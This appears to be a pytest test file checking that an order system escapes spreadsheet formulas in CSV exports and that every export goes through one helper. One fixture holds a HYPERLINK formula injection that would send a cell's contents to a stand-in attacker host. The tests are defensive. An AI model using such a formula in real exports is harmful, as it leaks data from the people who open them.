"""One escaping helper for every spreadsheet export (issue 14 §2, CSV formula injection)."""

import ast
from pathlib import Path

import pytest

from oms.exports import csv_lines, safe_cell

ROOT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize("value", [EVIL, "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1"])
def test_a_formula_cell_gets_an_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.50", "+3", "42", "Alpha", "", "a=b", 7, None])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_csv_lines_escapes_every_cell():
    assert list(csv_lines([["SKU-1", EVIL, -3, "-3.00"]])) == [
        'SKU-1,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",-3,-3.00\r\n'
    ]


# Scripts that derive the bundled sample data (not an export a user downloads).
NOT_EXPORTS = {"inventory/data/derive_catalogue.py"}
WRITERS = {("csv", "writer"), ("csv", "DictWriter"), ("openpyxl", "Workbook")}


def test_no_spreadsheet_is_written_outside_the_one_helper():
    found = []
    for app in ("oms", "customers", "inventory", "orders", "purchasing", "billing", "shipping"):
        for path in (ROOT / app).rglob("*.py"):
            relative = str(path.relative_to(ROOT))
            if relative in NOT_EXPORTS or relative == "oms/exports.py" or "/migrations/" in relative:
                continue
            for node in ast.walk(ast.parse(path.read_text())):
                if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
                    if (node.value.id, node.attr) in WRITERS:
                        found.append(f"{relative}:{node.lineno} {node.value.id}.{node.attr}")
    assert not found, f"write spreadsheets through oms.exports (csv_lines / safe_cell): {found}"
